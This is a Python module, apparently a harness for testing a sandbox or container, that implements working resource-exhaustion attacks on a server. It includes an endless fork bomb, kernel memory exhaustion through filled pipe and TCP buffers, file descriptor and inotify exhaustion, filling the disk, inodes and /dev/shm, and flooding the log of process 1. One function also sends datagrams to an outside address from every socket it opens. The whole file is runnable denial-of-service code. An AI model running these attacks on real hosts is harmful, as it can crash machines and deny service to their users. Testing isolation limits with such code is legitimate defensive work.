"""Attacks on the resources of the server: `python3 -m attack.flood NAME ARGUMENT...`. Each one takes all that it gets, prints how
much that was, and holds it until it is ended."""

import contextlib
import ctypes
import os
import resource
import signal
import socket
import sys
import time

MIB = 1 << 20


def hold(text):
    print(text, flush=True)
    signal.pause()


def processes():
    """Forks without end, in all processes that it made."""
    pause = 0
    while True:
        time.sleep(pause)  # pacing: this attack is on the number of processes, not on the CPU
        try:
            pause = pause if os.fork() else 0.1
        except OSError:
            pause = 0.1


def kernel_memory():
    """Takes memory of the kernel, which belongs to no process: pages in pipes."""
    pipes, size = [], 0
    with contextlib.suppress(OSError, BlockingIOError):
        while True:
            reader, writer = os.pipe2(os.O_NONBLOCK)
            pipes.append((reader, writer))
            with contextlib.suppress(BlockingIOError):
                while True:
                    size += os.write(writer, bytes(65536))
    hold(f"{len(pipes)} pipes with {size // MIB} MiB")


def descriptors():
    """Opens sockets until it fails, in many processes, and sends datagrams to the internet from each of them."""
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (hard, hard))
    made = []
    with contextlib.suppress(OSError):
        while len(made) < 65000:
            made.append(socket.socket(socket.AF_INET, socket.SOCK_DGRAM))
            made[-1].sendto(b"attack", ("198.51.100.10", 9999))
    hold(f"{len(made)} sockets")


def buffers():
    """Fills the buffers of TCP connections to itself, which belong to the kernel."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    listener = socket.create_server(("127.0.0.1", 0), backlog=4096)
    made, size = [], 0
    with contextlib.suppress(OSError):
        while True:
            sender = socket.create_connection(listener.getsockname(), 2)
            receiver, _ = listener.accept()
            made += [sender, receiver]
            for option in (socket.SO_SNDBUF, socket.SO_RCVBUF):
                sender.setsockopt(socket.SOL_SOCKET, option, 16 * MIB)
            sender.setblocking(False)
            with contextlib.suppress(BlockingIOError):
                while True:
                    size += sender.send(bytes(MIB))
    hold(f"{len(made)} sockets with {size // MIB} MiB")


def watches():
    """Takes inotify instances, and watches of files, of which the kernel gives each user a number."""
    resource.setrlimit(resource.RLIMIT_NOFILE, (resource.getrlimit(resource.RLIMIT_NOFILE)[1],) * 2)
    library, instances, taken = ctypes.CDLL(None), [], 0
    while (instance := library.inotify_init()) >= 0:
        instances.append(instance)
    paths = [entry.path.encode() for entry in os.scandir("/usr/bin") if os.access(entry.path, os.R_OK)]
    for instance in instances:
        for path in paths:
            if library.inotify_add_watch(instance, path, 2) < 0:
                break
            taken += 1
    hold(f"{len(instances)} instances with {taken} watches")


def disk(path, mebibytes):
    """Writes a file of this size, or until the disk is full."""
    written = 0
    with open(path, "wb", buffering=0) as file:
        try:
            for _ in range(int(mebibytes)):
                written += file.write(bytes(MIB))
        except OSError as error:
            print(f"{written // MIB} MiB, then: {error}", flush=True)
            return
    print(f"{written // MIB} MiB", flush=True)


def inodes(path, count):
    """Makes this many empty files."""
    os.makedirs(path, exist_ok=True)
    made = 0
    with contextlib.suppress(OSError):
        for number in range(int(count)):
            os.close(os.open(f"{path}/{number}", os.O_CREAT | os.O_WRONLY))
            made += 1
    print(f"{made} files", flush=True)


def log(mebibytes):
    """Writes to the output of process 1, which the engine keeps: whole lines, and one endless line."""
    with open("/proc/1/fd/1", "wb", buffering=0) as output:
        for number in range(int(mebibytes)):
            output.write((b"y" * 1023 + b"\n") * 1024 if number % 2 else b"\xff\0\x1b" * (MIB // 3))
    print("written", flush=True)


def shared_memory(mebibytes):
    """Writes to /dev/shm."""
    disk("/dev/shm/attack", mebibytes)


if __name__ == "__main__":
    globals()[sys.argv[1]](*sys.argv[2:])
